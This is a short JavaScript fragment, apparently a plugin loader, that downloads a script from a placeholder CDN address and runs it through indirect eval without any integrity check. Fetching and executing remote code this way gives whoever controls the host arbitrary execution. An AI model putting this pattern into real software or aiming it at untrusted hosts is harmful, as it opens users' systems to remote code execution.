const text = await (await fetch("https://cdn.example.net/plugin.js")).text();
(0, eval)(text);
